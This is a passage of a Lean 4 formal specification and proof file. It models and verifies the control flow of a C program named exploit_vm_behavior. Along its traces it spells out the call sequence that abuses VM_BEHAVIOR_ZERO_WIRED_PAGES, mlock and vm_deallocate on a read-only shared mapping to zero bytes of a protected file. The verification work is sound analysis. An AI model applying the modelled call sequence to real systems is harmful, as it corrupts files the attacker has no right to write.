        Event.call (Call.mmap 0 PAGE_SIZE PROT_READ (MAP_FILE ||| MAP_SHARED) o.fd 0) o.mapped_at,
        Event.call (Call.close o.fd) o.close_map])

/-- What `verify_changes` returns and appends to the trace when the platform
answers as `o` says. -/
def verify_script (path : String) (o : Outcome) : Bool × List Event :=
  if o.verify_fd = -1 then
    (false,
      [Event.call (Call.open_ path O_RDONLY) o.verify_fd, Event.printf Msg.verify_open_failed])
  else if o.bytes_read ≤ 0 then
    (false,
      [Event.call (Call.open_ path O_RDONLY) o.verify_fd,
        Event.call (Call.read o.verify_fd 128) o.bytes_read,
        Event.call (Call.close o.verify_fd) o.close_verify, Event.printf Msg.verify_read_failed])
  else
    (o.has_zeros,
      [Event.call (Call.open_ path O_RDONLY) o.verify_fd,
        Event.call (Call.read o.verify_fd 128) o.bytes_read,
        Event.call (Call.close o.verify_fd) o.close_verify,
        Event.printf (Msg.verify_result o.has_zeros)])

/-- The verdict of `verify_changes` run in platform state `w`. -/
def verify_value (P : Platform W) (path : String) (original_content : Nat → Nat)
    (content_size : Nat) (w : W) : Bool :=
  (verify_changes P path original_content content_size { world := w, trace := [] }).1

/-- The events `verify_changes` appends when run in platform state `w`. -/
def verify_events (P : Platform W) (path : String) (original_content : Nat → Nat)
    (content_size : Nat) (w : W) : List Event :=
  (verify_changes P path original_content content_size { world := w, trace := [] }).2.trace

/-- What `exploit_vm_behavior` returns and appends to the trace when the
platform answers as `o` says. -/
def exploit_script (path : String) (o : Outcome) : Int × List Event :=
  let m := map_script path o
  let page := m.1
  let t := [Event.printf Msg.exploit_start, Event.printf (Msg.exploit_target path)] ++ m.2 ++
    [Event.call (Call.map_file_page_ro path) page]
  if page = MAP_FAILED then (EXPLOIT_FAILED, t)
  else
    let t := t ++ [Event.printf (Msg.mapped_at page), Event.call (Call.memcpy page 128) 0,
      Event.printf Msg.snapshot_saved,
      Event.call (Call.vm_behavior_set page PAGE_SIZE VM_BEHAVIOR_ZERO_WIRED_PAGES) o.kr_behavior]
    if o.kr_behavior ≠ KERN_SUCCESS then
      (EXPLOIT_FAILED, t ++ [Event.printf (Msg.behavior_set_failed o.kr_behavior)])
    else
      let t := t ++ [Event.printf Msg.behavior_set_ok,
        Event.call (Call.mlock page PAGE_SIZE) o.mlock_err]
      if o.mlock_err ≠ 0 then (EXPLOIT_FAILED, t ++ [Event.printf Msg.mlock_failed])
      else
        let t := t ++ [Event.printf Msg.mlock_ok,
          Event.call (Call.vm_deallocate page PAGE_SIZE) o.kr_deallocate]
        if o.kr_deallocate ≠ KERN_SUCCESS then
          (EXPLOIT_FAILED, t ++ [Event.printf (Msg.deallocate_failed o.kr_deallocate)])
        else
          let v := verify_script path o
          let t := t ++ [Event.printf Msg.deallocate_ok] ++ v.2 ++
            [Event.call (Call.verify_changes path 128) (if v.1 then 1 else 0)]
          if v.1 then (EXPLOIT_SUCCESS, t ++ [Event.printf Msg.exploit_succeeded])
          else (EXPLOIT_FAILED, t ++ [Event.printf Msg.exploit_maybe_failed])

/-! ## The nine traces of the orchestrator -/

/-- The events of a run up to and including the `vm_behavior_set` call. -/
def events_to_behavior (path : String) (fd : Int) (page : Nat) (c kr : Int) : List Event :=
  [Event.printf Msg.exploit_start, Event.printf (Msg.exploit_target path),
    Event.call (Call.open_ path O_RDONLY) fd,
    Event.call (Call.mmap 0 PAGE_SIZE PROT_READ (MAP_FILE ||| MAP_SHARED) fd 0) page,
    Event.call (Call.close fd) c,
    Event.call (Call.map_file_page_ro path) page,
    Event.printf (Msg.mapped_at page),
    Event.call (Call.memcpy page 128) 0,
    Event.printf Msg.snapshot_saved,
    Event.call (Call.vm_behavior_set page PAGE_SIZE VM_BEHAVIOR_ZERO_WIRED_PAGES) kr]

/-- The events of a run up to and including the `vm_deallocate` call. -/
def events_to_deallocate (path : String) (fd : Int) (page : Nat) (c ml kd : Int) : List Event :=
  events_to_behavior path fd page c KERN_SUCCESS ++
    [Event.printf Msg.behavior_set_ok,
      Event.call (Call.mlock page PAGE_SIZE) ml,
      Event.printf Msg.mlock_ok,
      Event.call (Call.vm_deallocate page PAGE_SIZE) kd]

/-- The result and the events of a run of `exploit_vm_behavior`: one constructor
for each way through the function and the two functions it calls. -/
inductive RunShape (path : String) : Int → List Event → Prop where
  | open_failed : RunShape path EXPLOIT_FAILED
      [Event.printf Msg.exploit_start, Event.printf (Msg.exploit_target path),
        Event.call (Call.open_ path O_RDONLY) (-1),
        Event.printf Msg.map_open_failed,
        Event.call (Call.map_file_page_ro path) MAP_FAILED]
  | mmap_failed (fd c : Int) : fd ≠ -1 → RunShape path EXPLOIT_FAILED
      [Event.printf Msg.exploit_start, Event.printf (Msg.exploit_target path),
        Event.call (Call.open_ path O_RDONLY) fd,
        Event.call (Call.mmap 0 PAGE_SIZE PROT_READ (MAP_FILE ||| MAP_SHARED) fd 0) MAP_FAILED,
        Event.call (Call.close fd) c,
        Event.printf Msg.map_mmap_failed,
        Event.call (Call.map_file_page_ro path) MAP_FAILED]
  | behavior_failed (fd : Int) (page : Nat) (c kr : Int) :
      fd ≠ -1 → page ≠ MAP_FAILED → kr ≠ KERN_SUCCESS →
      RunShape path EXPLOIT_FAILED
        (events_to_behavior path fd page c kr ++ [Event.printf (Msg.behavior_set_failed kr)])
  | lock_failed (fd : Int) (page : Nat) (c ml : Int) :
      fd ≠ -1 → page ≠ MAP_FAILED → ml ≠ 0 →
      RunShape path EXPLOIT_FAILED
        (events_to_behavior path fd page c KERN_SUCCESS ++
          [Event.printf Msg.behavior_set_ok, Event.call (Call.mlock page PAGE_SIZE) ml,
            Event.printf Msg.mlock_failed])
  | deallocate_failed (fd : Int) (page : Nat) (c kd : Int) :
      fd ≠ -1 → page ≠ MAP_FAILED → kd ≠ KERN_SUCCESS →
      RunShape path EXPLOIT_FAILED
        (events_to_deallocate path fd page c 0 kd ++ [Event.printf (Msg.deallocate_failed kd)])
  | verify_open_failed (fd : Int) (page : Nat) (c : Int) :
      fd ≠ -1 → page ≠ MAP_FAILED →
      RunShape path EXPLOIT_FAILED
        (events_to_deallocate path fd page c 0 KERN_SUCCESS ++
          [Event.printf Msg.deallocate_ok,
            Event.call (Call.open_ path O_RDONLY) (-1),
            Event.printf Msg.verify_open_failed,
            Event.call (Call.verify_changes path 128) 0,
            Event.printf Msg.exploit_maybe_failed])
  | verify_read_failed (fd : Int) (page : Nat) (c vfd n vc : Int) :
      fd ≠ -1 → page ≠ MAP_FAILED → vfd ≠ -1 → n ≤ 0 →
      RunShape path EXPLOIT_FAILED
        (events_to_deallocate path fd page c 0 KERN_SUCCESS ++
          [Event.printf Msg.deallocate_ok,
            Event.call (Call.open_ path O_RDONLY) vfd,
            Event.call (Call.read vfd 128) n,
            Event.call (Call.close vfd) vc,
            Event.printf Msg.verify_read_failed,
            Event.call (Call.verify_changes path 128) 0,
            Event.printf Msg.exploit_maybe_failed])
  | unmodified (fd : Int) (page : Nat) (c vfd n vc : Int) :
      fd ≠ -1 → page ≠ MAP_FAILED → vfd ≠ -1 → 0 < n →
      RunShape path EXPLOIT_FAILED
        (events_to_deallocate path fd page c 0 KERN_SUCCESS ++
          [Event.printf Msg.deallocate_ok,
            Event.call (Call.open_ path O_RDONLY) vfd,
            Event.call (Call.read vfd 128) n,
            Event.call (Call.close vfd) vc,
            Event.printf (Msg.verify_result false),
            Event.call (Call.verify_changes path 128) 0,
            Event.printf Msg.exploit_maybe_failed])
  | modified (fd : Int) (page : Nat) (c vfd n vc : Int) :
      fd ≠ -1 → page ≠ MAP_FAILED → vfd ≠ -1 → 0 < n →
      RunShape path EXPLOIT_SUCCESS
        (events_to_deallocate path fd page c 0 KERN_SUCCESS ++
          [Event.printf Msg.deallocate_ok,
            Event.call (Call.open_ path O_RDONLY) vfd,
            Event.call (Call.read vfd 128) n,
            Event.call (Call.close vfd) vc,
            Event.printf (Msg.verify_result true),
            Event.call (Call.verify_changes path 128) 1,
            Event.printf Msg.exploit_succeeded])

/-! ## The platform state along a run -/

/-- The address `map_file_page_ro` returns when run in platform state `w`. -/
def map_result (P : Platform W) (path : String) (w : W) : Nat :=
  (map_file_page_ro P path { world := w, trace := [] }).1

/-- The platform state `map_file_page_ro` leaves when run in platform state `w`. -/
def map_world (P : Platform W) (path : String) (w : W) : W :=
  (map_file_page_ro P path { world := w, trace := [] }).2.world

/-- The snapshot `exploit_vm_behavior` takes when started in platform state `w`. -/
def snapshot (P : Platform W) (path : String) (w : W) : List Nat :=
  memcpy_from P (map_result P path w) 128 (map_world P path w)

/-- The result of the `vm_behavior_set` call of a run started in platform state `w`. -/
def behavior_result (P : Platform W) (path : String) (w : W) : Int × W :=
  P.vm_behavior_set (map_result P path w) PAGE_SIZE VM_BEHAVIOR_ZERO_WIRED_PAGES
    (map_world P path w)

/-- The result of the `mlock` call of a run started in platform state `w`. -/
def lock_result (P : Platform W) (path : String) (w : W) : Int × W :=
  P.mlock (map_result P path w) PAGE_SIZE (behavior_result P path w).2

/-- The result of the `vm_deallocate` call of a run started in platform state `w`. -/
def deallocate_result (P : Platform W) (path : String) (w : W) : Int × W :=
  P.vm_deallocate (map_result P path w) PAGE_SIZE (lock_result P path w).2

/-- The verdict of the verifier of a run started in platform state `w`. -/
def verdict (P : Platform W) (path : String) (w : W) : Bool :=
  verify_value P path (fun i => (snapshot P path w).getD i 0) 128 (deallocate_result P path w).2

/-- The VM map entry `mmap` creates for the program's request, with the flag and
wire count the later calls give it. -/
def mapped_entry (page_size : Nat) (path : String) (zero_wired_pages : Bool)
    (wired_count : Nat) : VMEntry :=
  { start := USER_BASE, size := round_up PAGE_SIZE page_size, path := path, offset := 0,
    prot := PROT_READ, zero_wired_pages := zero_wired_pages, wired_count := wired_count }

/-- The state of a process that has just started, but for its VM map. -/
def booted (uid : Nat) (fs : List (String × FileNode)) (vm_map : List VMEntry) : World :=
  { uid := uid, cwd := "/tmp", fs := fs, fds := [], streams := [], vm_map := vm_map }

/-! ## Lemmas on the comparison loop -/

theorem verify_scan_true_iff (buffer : List Nat) (original_content : Nat → Nat)
    (bytes_read : Int) (content_size : Nat) (fuel i : Nat) :
    verify_scan buffer original_content bytes_read content_size fuel i = true ↔
      ∃ j, i ≤ j ∧ j < i + fuel ∧ (j : Int) < bytes_read ∧ j < content_size ∧
        buffer.getD j 0 = 0 ∧ original_content j ≠ 0 := by
  induction fuel generalizing i with
  | zero =>
    simp only [verify_scan, Bool.false_eq_true, false_iff, not_exists]
    intro j h
    omega
  | succ fuel ih =>
    rw [verify_scan]
    by_cases hg : (i : Int) < bytes_read ∧ i < content_size
    · by_cases hc : buffer.getD i 0 = 0 ∧ original_content i ≠ 0
      · rw [if_pos hg, if_pos hc]
        simp only [true_iff]
        exact ⟨i, le_refl i, by omega, hg.1, hg.2, hc.1, hc.2⟩
      · rw [if_pos hg, if_neg hc, ih]
        constructor
        · rintro ⟨j, h1, h2, h3, h4, h5, h6⟩
          exact ⟨j, by omega, by omega, h3, h4, h5, h6⟩
        · rintro ⟨j, h1, h2, h3, h4, h5, h6⟩
          have hne : j ≠ i := by
            rintro rfl
            exact hc ⟨h5, h6⟩
          exact ⟨j, by omega, by omega, h3, h4, h5, h6⟩
    · rw [if_neg hg]
      simp only [Bool.false_eq_true, false_iff, not_exists]
      rintro j ⟨h1, h2, h3, h4, h5, h6⟩
      apply hg
      constructor
      · omega
      · omega

theorem read_into_some_fst (buffer : List Nat) (nbyte : Nat) (data : List Nat) :
    (read_into buffer nbyte (some data)).1 = ((min nbyte data.length : Nat) : Int) := by
  simp [read_into]

theorem read_into_some_getD (buffer : List Nat) (nbyte : Nat) (data : List Nat) (j : Nat)
    (hj : j < min nbyte data.length) :
    (read_into buffer nbyte (some data)).2.getD j 0 = data.getD j 0 := by
  have h1 : j < (List.take nbyte data).length := by simpa using hj
  have h2 : j < data.length := by omega
  simp only [read_into, List.getD_eq_getElem?_getD]
  rw [List.getElem?_append_left h1]
  rw [List.getElem?_take]
  simp [show j < nbyte by omega]

/-- The verdict of the comparison loop as `verify_changes` runs it, after a
read that delivered `data`. -/
theorem verify_scan_after_read (data : List Nat) (original_content : Nat → Nat)
    (content_size : Nat) :
    verify_scan (read_into (List.replicate 128 0) 128 (some data)).2 original_content
        (read_into (List.replicate 128 0) 128 (some data)).1 content_size 128 0 = true ↔
      ∃ i, i < min (min 128 data.length) content_size ∧ data[i]? = some 0 ∧
        original_content i ≠ 0 := by
  rw [verify_scan_true_iff, read_into_some_fst]
  constructor
  · rintro ⟨j, _, _, h3, h4, h5, h6⟩
    have h3' : j < min 128 data.length := by exact_mod_cast h3
    rw [read_into_some_getD _ _ _ _ h3'] at h5
    have hj : j < data.length := by omega
    refine ⟨j, by omega, ?_, h6⟩
    rw [List.getD_eq_getElem?_getD, List.getElem?_eq_getElem hj] at h5
    rw [List.getElem?_eq_getElem hj]
    simpa using h5
  · rintro ⟨j, h1, h2, h3⟩
    have h3' : j < min 128 data.length := by omega
    refine ⟨j, Nat.zero_le j, by omega, by exact_mod_cast h3', by omega, ?_, h3⟩
    rw [read_into_some_getD _ _ _ _ h3']
    simp [List.getD_eq_getElem?_getD, h2]

/-! ## The verifier -/

/-- The value `verify_changes` returns when its open succeeds and its read
delivers `data`. -/
theorem verify_changes_fst_of_read (P : Platform W) (path : String)
    (original_content : Nat → Nat) (content_size : Nat) (s : Run W) (data : List Nat)
    (h_open : (P.open_ path O_RDONLY s.world).1 ≠ -1)
    (h_read : (P.read (P.open_ path O_RDONLY s.world).1 128
      (P.open_ path O_RDONLY s.world).2).1 = some data) :
    (verify_changes P path original_content content_size s).1 =
      if (read_into (List.replicate 128 0) 128 (some data)).1 ≤ 0 then false
      else verify_scan (read_into (List.replicate 128 0) 128 (some data)).2 original_content
        (read_into (List.replicate 128 0) 128 (some data)).1 content_size 128 0 := by
  simp only [verify_changes, invoke, if_neg h_open, h_read]
  split_ifs <;> rfl

/-- C1: when the open succeeds and the read delivers n > 0 bytes into the
128-byte buffer (n is the smaller of 128 and the number of bytes the platform
offers), `verify_changes` returns true exactly when some index i below
min(n, content_size) has a zero byte read at i and a non-zero snapshot byte
at i. -/
theorem verify_changes_modified_iff (P : Platform W) (path : String)
    (original_content : Nat → Nat) (content_size : Nat) (s : Run W) (data : List Nat)
    (h_open : (P.open_ path O_RDONLY s.world).1 ≠ -1)
    (h_read : (P.read (P.open_ path O_RDONLY s.world).1 128
      (P.open_ path O_RDONLY s.world).2).1 = some data)
    (h_pos : 0 < min 128 data.length) :
    (verify_changes P path original_content content_size s).1 = true ↔
      ∃ i, i < min (min 128 data.length) content_size ∧ data[i]? = some 0 ∧
        original_content i ≠ 0 := by
  rw [verify_changes_fst_of_read P path original_content content_size s data h_open h_read]
  have hn : ¬ (read_into (List.replicate 128 0) 128 (some data)).1 ≤ 0 := by
    rw [read_into_some_fst]
    have : (0 : Int) < ((min 128 data.length : Nat) : Int) := by exact_mod_cast h_pos
    omega
  rw [if_neg hn]
  exact verify_scan_after_read data original_content content_size

/-- Witness for C1: the concrete platform, a two-byte file whose first byte is
zero, and a snapshot of letters A. -/
theorem verify_changes_modified_iff_witness :
    (verify_changes (xnu 4096 false) "f.bin" (fun _ => 65) 128
        (Run.start (World.boot 501
          [("f.bin", { data := [0, 66], mode := 292, owner := 0 })]))).1 = true ↔
      ∃ i, i < min (min 128 [0, 66].length) 128 ∧ [0, 66][i]? = some 0 ∧
        (fun _ => 65) i ≠ 0 :=
  verify_changes_modified_iff (xnu 4096 false) "f.bin" (fun _ => 65) 128
    (Run.start (World.boot 501 [("f.bin", { data := [0, 66], mode := 292, owner := 0 })]))
    [0, 66] (by decide) (by rfl) (by decide)

theorem map_file_page_ro_script (P : Platform W) (path : String) (s : Run W) :
    ∃ fd mapped_at close_map, ∀ o : Outcome, o.fd = fd → o.mapped_at = mapped_at →
      o.close_map = close_map →
      (map_file_page_ro P path s).1 = (map_script path o).1 ∧
      (map_file_page_ro P path s).2.trace = s.trace ++ (map_script path o).2 := by
  refine ⟨(P.open_ path O_RDONLY s.world).1,
    (P.mmap 0 PAGE_SIZE PROT_READ (MAP_FILE ||| MAP_SHARED) (P.open_ path O_RDONLY s.world).1 0
      (P.open_ path O_RDONLY s.world).2).1,
    (P.close (P.open_ path O_RDONLY s.world).1
      (P.mmap 0 PAGE_SIZE PROT_READ (MAP_FILE ||| MAP_SHARED) (P.open_ path O_RDONLY s.world).1 0
        (P.open_ path O_RDONLY s.world).2).2).1, ?_⟩
  intro o h1 h2 h3
  simp only [map_file_page_ro, map_script, invoke, Run.printf, h1, h2, h3]
  split_ifs <;> simp

theorem verify_changes_fst (P : Platform W) (path : String) (original_content : Nat → Nat)
    (content_size : Nat) (s : Run W) :
    (verify_changes P path original_content content_size s).1 =
      verify_value P path original_content content_size s.world := by
  simp only [verify_value, verify_changes, invoke, Run.printf]
  split_ifs <;> simp

theorem verify_changes_trace (P : Platform W) (path : String) (original_content : Nat → Nat)
    (content_size : Nat) (s : Run W) :
    (verify_changes P path original_content content_size s).2.trace =
      s.trace ++ verify_events P path original_content content_size s.world := by
  simp only [verify_events, verify_changes, invoke, Run.printf]
  split_ifs <;> simp

theorem verify_changes_script (P : Platform W) (path : String) (original_content : Nat → Nat)
    (content_size : Nat) (w : W) :
    ∃ verify_fd bytes_read close_verify, ∀ o : Outcome, o.verify_fd = verify_fd →
      o.bytes_read = bytes_read → o.close_verify = close_verify →
      o.has_zeros = verify_value P path original_content content_size w →
      verify_value P path original_content content_size w = (verify_script path o).1 ∧
      verify_events P path original_content content_size w = (verify_script path o).2 := by
  refine ⟨(P.open_ path O_RDONLY w).1,
    (read_into (List.replicate 128 0) 128 (P.read (P.open_ path O_RDONLY w).1 128
      (P.open_ path O_RDONLY w).2).1).1,
    (P.close (P.open_ path O_RDONLY w).1 (P.read (P.open_ path O_RDONLY w).1 128
      (P.open_ path O_RDONLY w).2).2).1, ?_⟩
  intro o h1 h2 h3 h4
  rw [verify_script, h4, h1, h2, h3]
  simp only [verify_value, verify_events, verify_changes, invoke, Run.printf]
  split_ifs <;> simp

theorem exploit_vm_behavior_script (P : Platform W) (path : String) (s : Run W) :
    ∃ o : Outcome, (exploit_vm_behavior P path s).1 = (exploit_script path o).1 ∧
      (exploit_vm_behavior P path s).2.trace = s.trace ++ (exploit_script path o).2 := by
  obtain ⟨fd, ma, cm, hm⟩ := map_file_page_ro_script P path
    ((s.printf Msg.exploit_start).printf (Msg.exploit_target path))
  generalize hmp : map_file_page_ro P path
    ((s.printf Msg.exploit_start).printf (Msg.exploit_target path)) = mp at hm
  generalize hb : P.vm_behavior_set mp.1 PAGE_SIZE VM_BEHAVIOR_ZERO_WIRED_PAGES mp.2.world = b
  generalize hl : P.mlock mp.1 PAGE_SIZE b.2 = l
  generalize hd : P.vm_deallocate mp.1 PAGE_SIZE l.2 = d
  obtain ⟨vf, br, cv, hv⟩ := verify_changes_script P path
    (fun i => (memcpy_from P mp.1 128 mp.2.world).getD i 0) 128 d.2
  generalize hvv : verify_value P path (fun i => (memcpy_from P mp.1 128 mp.2.world).getD i 0)
    128 d.2 = v at hv
  generalize hve : verify_events P path (fun i => (memcpy_from P mp.1 128 mp.2.world).getD i 0)
    128 d.2 = ve at hv
  obtain ⟨e1, e2⟩ := hm ⟨fd, ma, cm, b.1, l.1, d.1, vf, br, cv, v⟩ rfl rfl rfl
  obtain ⟨e3, e4⟩ := hv ⟨fd, ma, cm, b.1, l.1, d.1, vf, br, cv, v⟩ rfl rfl rfl rfl
  refine ⟨⟨fd, ma, cm, b.1, l.1, d.1, vf, br, cv, v⟩, ?_⟩
  simp only [exploit_vm_behavior, invoke, Run.returned]
  simp only [hmp]
  simp only [Run.printf, hb, hl, hd, verify_changes_fst, verify_changes_trace, hvv, hve]
  simp only [exploit_script, ← e1, ← e3, ← e4]
  simp only [Run.printf] at e2
  simp only [e2]
  constructor
  · split_ifs <;> rfl
  · split_ifs <;> simp

theorem exploit_script_shape (path : String) (o : Outcome) :
    RunShape path (exploit_script path o).1 (exploit_script path o).2 := by
  by_cases h1 : o.fd = -1
  · simp only [exploit_script, map_script, h1, if_true]
    exact RunShape.open_failed
  by_cases h2 : o.mapped_at = MAP_FAILED
  · simp only [exploit_script, map_script, h1, h2, if_true, if_false]
    exact RunShape.mmap_failed o.fd o.close_map h1
  by_cases h3 : o.kr_behavior = KERN_SUCCESS
  swap
  · simp only [exploit_script, map_script, h1, h2, h3, if_true, if_false, ne_eq, not_false_eq_true]
    exact RunShape.behavior_failed o.fd o.mapped_at o.close_map o.kr_behavior h1 h2 h3
  by_cases h4 : o.mlock_err = 0
  swap
  · simp only [exploit_script, map_script, h1, h2, h3, h4, if_true, if_false, ne_eq,
      not_false_eq_true, not_true_eq_false]
    exact RunShape.lock_failed o.fd o.mapped_at o.close_map o.mlock_err h1 h2 h4
  by_cases h5 : o.kr_deallocate = KERN_SUCCESS
  swap
  · simp only [exploit_script, map_script, h1, h2, h3, h4, h5, if_true, if_false, ne_eq,
      not_false_eq_true, not_true_eq_false]
    exact RunShape.deallocate_failed o.fd o.mapped_at o.close_map o.kr_deallocate h1 h2 h5
  by_cases h6 : o.verify_fd = -1
  · simp only [exploit_script, map_script, verify_script, h1, h2, h3, h4, h5, h6, if_true,
      if_false, ne_eq, not_false_eq_true, not_true_eq_false]
    exact RunShape.verify_open_failed o.fd o.mapped_at o.close_map h1 h2
  by_cases h7 : o.bytes_read ≤ 0
  · simp only [exploit_script, map_script, verify_script, h1, h2, h3, h4, h5, h6, h7, if_true,
      if_false, ne_eq, not_false_eq_true, not_true_eq_false]
    exact RunShape.verify_read_failed o.fd o.mapped_at o.close_map o.verify_fd o.bytes_read
      o.close_verify h1 h2 h6 h7
  by_cases h8 : o.has_zeros = true
  · simp only [exploit_script, map_script, verify_script, h1, h2, h3, h4, h5, h6, h7, h8, if_true,
      if_false, ne_eq, not_false_eq_true, not_true_eq_false]
    exact RunShape.modified o.fd o.mapped_at o.close_map o.verify_fd o.bytes_read
      o.close_verify h1 h2 h6 (by omega)
  · have h8' : o.has_zeros = false := by simpa using h8
    simp only [exploit_script, map_script, verify_script, h1, h2, h3, h4, h5, h6, h7, h8', if_true,
      if_false, ne_eq, not_false_eq_true, not_true_eq_false, Bool.false_eq_true]
    exact RunShape.unmodified o.fd o.mapped_at o.close_map o.verify_fd o.bytes_read
      o.close_verify h1 h2 h6 (by omega)

/-- Every run of `exploit_vm_behavior`, on every platform, has one of the nine shapes. -/
theorem exploit_vm_behavior_shape (P : Platform W) (path : String) (s : Run W) :
    ∃ evs, RunShape path (exploit_vm_behavior P path s).1 evs ∧
      (exploit_vm_behavior P path s).2.trace = s.trace ++ evs := by
  obtain ⟨o, h1, h2⟩ := exploit_vm_behavior_script P path s
  exact ⟨(exploit_script path o).2, h1 ▸ exploit_script_shape path o, h2⟩

/-! ## The orchestrator on every platform -/

/-- C2: when a target path is given, `main` returns what `exploit_vm_behavior`
returns, and the exit status is 0 exactly when the trace holds a successful
map, set-behavior, lock and deallocate call and a verifier call that reported
Modified; in every other case it is not 0. -/
theorem exit_status_zero_iff (P : Platform W) (prog path : String) (rest : List String) (w : W) :
    (main P (prog :: path :: rest) (Run.start w)).1 =
        (exploit_vm_behavior P path ((Run.start w).printf Msg.banner)).1 ∧
      (exit_status (main P (prog :: path :: rest) (Run.start w)).1 = 0 ↔
        stage_succeeded Stage.map (main P (prog :: path :: rest) (Run.start w)).2.trace = true ∧
        stage_succeeded Stage.behavior
          (main P (prog :: path :: rest) (Run.start w)).2.trace = true ∧
        stage_succeeded Stage.lock (main P (prog :: path :: rest) (Run.start w)).2.trace = true ∧
        stage_succeeded Stage.deallocate
          (main P (prog :: path :: rest) (Run.start w)).2.trace = true ∧
        stage_succeeded Stage.verify
          (main P (prog :: path :: rest) (Run.start w)).2.trace = true) := by
  refine ⟨rfl, ?_⟩
  have hmain : main P (prog :: path :: rest) (Run.start w) =
      exploit_vm_behavior P path ((Run.start w).printf Msg.banner) := rfl
  obtain ⟨evs, hs, ht⟩ := exploit_vm_behavior_shape P path ((Run.start w).printf Msg.banner)
  rw [hmain, ht]
  generalize (exploit_vm_behavior P path ((Run.start w).printf Msg.banner)).1 = r at hs
  cases hs <;>
    simp_all [stage_succeeded, Event.succeeded, events_to_deallocate, events_to_behavior,
      exit_status, EXPLOIT_SUCCESS, EXPLOIT_FAILED, KERN_SUCCESS, Run.start, Run.printf]

/-- C6: on every platform the stages `exploit_vm_behavior` invokes are a prefix of
map, snapshot, set-behavior, lock, deallocate, verify (so none is skipped or
reordered and the snapshot precedes set-behavior), and no stage is invoked
after a stage call that reported failure. -/
theorem stages_prefix_of_order (P : Platform W) (path : String) (w : W) :
    stages (exploit_vm_behavior P path (Run.start w)).2.trace <+: stage_order ∧
      (exploit_vm_behavior P path (Run.start w)).2.trace.Pairwise
        (fun e e' => e.failed = true → e'.stage = none) := by
  obtain ⟨evs, hs, ht⟩ := exploit_vm_behavior_shape P path (Run.start w)
  rw [ht]
  generalize (exploit_vm_behavior P path (Run.start w)).1 = r at hs
  cases hs <;>
    simp_all [stages, stage_order, Event.stage, Event.failed, events_to_deallocate,
      events_to_behavior, KERN_SUCCESS, Run.start, List.pairwise_cons, List.pairwise_append]

/-- C8: on every platform, no event of a run of `exploit_vm_behavior` asks for
write access or changes a file; every open is of the target path with plain
O_RDONLY; there is at most one mapping request, and it asks for PROT_READ
with the flags MAP_FILE and MAP_SHARED. -/
theorem never_requests_write (P : Platform W) (path : String) (w : W) :
    (∀ e ∈ (exploit_vm_behavior P path (Run.start w)).2.trace, e.requests_write = false) ∧
      (∀ p oflag r, Event.call (Call.open_ p oflag) r ∈
          (exploit_vm_behavior P path (Run.start w)).2.trace → p = path ∧ oflag = O_RDONLY) ∧
      (mmap_requests (exploit_vm_behavior P path (Run.start w)).2.trace).length ≤ 1 ∧
      (∀ q ∈ mmap_requests (exploit_vm_behavior P path (Run.start w)).2.trace,
        q.prot = PROT_READ ∧ q.flags = MAP_FILE ||| MAP_SHARED) := by
  obtain ⟨evs, hs, ht⟩ := exploit_vm_behavior_shape P path (Run.start w)
  rw [ht]
  generalize (exploit_vm_behavior P path (Run.start w)).1 = r at hs
  cases hs <;>
    simp [mmap_requests, Event.requests_write, events_to_deallocate, events_to_behavior,
      Run.start, O_RDONLY, PROT_READ, PROT_WRITE] <;>
    tauto

/-- C10, counterexample: on a platform with 16384-byte pages the length passed to
`mmap` is 4096, not one platform page. -/
theorem map_length_not_platform_page :
    ¬ ∀ q ∈ mmap_requests (exploit_vm_behavior (xnu 16384 false) "AAAAs.txt"
        (Run.start (World.boot 501
          [("AAAAs.txt", { data := List.replicate 8 65, mode := 292, owner := 0 })]))).2.trace,
      q.len = (xnu 16384 false).vm_page_size := by
  decide

/-- C10, amended: on every platform the length passed to `mmap` is the constant
PAGE_SIZE = 4096 (one platform page only where pages are 4096 bytes) at file
offset 0, and each set-behavior, lock and deallocate call is issued on the
address that `mmap` returned with that same length. -/
theorem region_is_fixed_page (P : Platform W) (path : String) (w : W) :
    PAGE_SIZE = 4096 ∧
      (∀ q ∈ mmap_requests (exploit_vm_behavior P path (Run.start w)).2.trace,
        q.len = PAGE_SIZE ∧ q.off = 0) ∧
      (∀ u ∈ regions_used (exploit_vm_behavior P path (Run.start w)).2.trace,
        u.len = PAGE_SIZE ∧
          ∃ q ∈ mmap_requests (exploit_vm_behavior P path (Run.start w)).2.trace,
            q.ret = u.addr ∧ q.len = u.len) := by
  refine ⟨rfl, ?_⟩
  obtain ⟨evs, hs, ht⟩ := exploit_vm_behavior_shape P path (Run.start w)
  rw [ht]
  generalize (exploit_vm_behavior P path (Run.start w)).1 = r at hs
  cases hs <;>
    simp [mmap_requests, regions_used, events_to_deallocate, events_to_behavior, Run.start]

/-- C5, counterexample: a run that fails at the mapping stage, a run that fails at
the lock stage and a run that ends Unmodified all return the same value. -/
theorem failure_results_coincide :
    failed_stages (exploit_vm_behavior (xnu 4096 false) "missing.txt"
        (Run.start (World.boot 501 []))).2.trace = [Stage.map] ∧
      failed_stages (exploit_vm_behavior (xnu_no_wiring 4096 false) "AAAAs.txt"
        (Run.start (World.boot 501
          [("AAAAs.txt", { data := [65, 65, 65, 65], mode := 292, owner := 0 })]))).2.trace =
        [Stage.lock] ∧
      (exploit_vm_behavior (xnu 4096 false) "missing.txt"
        (Run.start (World.boot 501 []))).1 =
      (exploit_vm_behavior (xnu_no_wiring 4096 false) "AAAAs.txt"
        (Run.start (World.boot 501
          [("AAAAs.txt", { data := [65, 65, 65, 65], mode := 292, owner := 0 })]))).1 ∧
      failed_stages (exploit_vm_behavior (xnu 4096 true) "AAAAs.txt"
        (Run.start (World.boot 501
          [("AAAAs.txt", { data := [65, 65, 65, 65], mode := 292, owner := 0 })]))).2.trace =
        [] ∧
      Event.printf (Msg.verify_result false) ∈ (exploit_vm_behavior (xnu 4096 true) "AAAAs.txt"
        (Run.start (World.boot 501
          [("AAAAs.txt", { data := [65, 65, 65, 65], mode := 292, owner := 0 })]))).2.trace ∧
      (exploit_vm_behavior (xnu 4096 true) "AAAAs.txt"
        (Run.start (World.boot 501
          [("AAAAs.txt", { data := [65, 65, 65, 65], mode := 292, owner := 0 })]))).1 =
      (exploit_vm_behavior (xnu 4096 false) "missing.txt"
        (Run.start (World.boot 501 []))).1 := by
  decide

/-- C5, amended: on every platform `exploit_vm_behavior` returns one of two values;
every stage failure and the outcome Unmodified all give EXPLOIT_FAILED. The
failing stage is told by the printed diagnostics only: a failed stage call,
and likewise a printed failure diagnostic, comes with exactly one failure
diagnostic, which names that stage, and Unmodified comes with none. -/
theorem failure_is_one_code (P : Platform W) (path : String) (w : W) :
